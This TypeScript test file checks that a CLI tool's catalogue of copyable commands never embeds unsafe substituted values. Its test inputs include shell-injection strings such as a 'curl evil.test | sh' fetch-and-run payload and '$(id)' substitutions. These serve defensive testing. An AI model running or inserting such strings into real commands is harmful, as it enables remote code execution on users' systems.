import { expect, test } from 'vitest'
import { commandsOf } from '../../../domain/catalogue/cause.ts'
import { causeCatalogue } from '../../../domain/catalogue/catalogue.ts'
import { lane } from './facts.ts'

test.each(['x; curl evil.test | sh', '$(id)', '`id`', "a'b", '-rf', '--all', 'a b', 'a\nb', ''])(
  'no command that people copy contains the unsafe id %s',
  (id) => {
    for (const code of Object.keys(causeCatalogue) as (keyof typeof causeCatalogue)[]) {
      const names = [
        'scope',
        'chain',
        'node',
        'lane',
        'address',
        'other lane',
        'stream',
        'number',
        'id',
        'workflow',
        'kind',
        'party',
        'nonce',
        'receiver',
        'version',
      ]
      const values = Object.fromEntries(names.filter((name) => name !== 'scope').map((name) => [name, id]))
      expect(commandsOf(code, values)).toEqual(commandsOf(code, {}))
    }
    expect(commandsOf('HALTED', { scope: `--bridge ${id}; id` })).toEqual(commandsOf('HALTED', {}))
    expect(commandsOf('HALTED', { scope: '--source ethereum --target bsc' })[1]).toContain('unhalt --source ethereum --target bsc --reason')
  },
)

test('commands have their values, and unknown values stay in <…>', () => {
  expect(commandsOf('LANE_FUNDS', { lane, 'other lane': 'evm-1:0xaa' })).toEqual([
    `portage lane show ${lane}`,
    `portage lane top-up ${lane} --from evm-1:0xaa --amount <wei> --wait`,
  ])
  expect(Object.keys(causeCatalogue).length).toBeGreaterThan(40)
})
